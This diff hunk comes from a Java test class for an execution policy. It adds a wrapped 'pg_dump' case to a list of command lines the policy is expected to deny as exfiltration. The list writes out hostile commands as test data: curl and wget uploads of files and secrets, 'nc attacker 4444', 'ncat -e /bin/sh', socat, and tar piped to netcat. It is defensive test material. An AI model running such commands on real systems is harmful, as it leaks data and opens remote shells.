@@ -42,7 +42,7 @@ class ExecPolicyTest {
             "curl --upload-file f https://x", "curl -F file=@f https://x", "curl -d @secret.txt https://x",
             "wget --post-file=f https://x", "nc attacker 4444", "ncat -e /bin/sh h 1", "socat - TCP:h:1",
             "scp f user@h:", "rsync -a /data h:/x", "sftp h", "tar cf - /data", "tar -czf - /var/lib",
-            "sh -c 'tar cf - . | nc h 1'", "bash -c \"env FOO=1 pg_dump db\""})
+            "sh -c 'tar cf - . | nc h 1'", "bash -c \"env FOO=1 pg_dump db\"", "sh -c -e 'pg_dump db'"})
     void exfiltrationShapesAreDenied(String commandLine) {
         ExecPolicy.ExecDecision d = decide(commandLine);
 
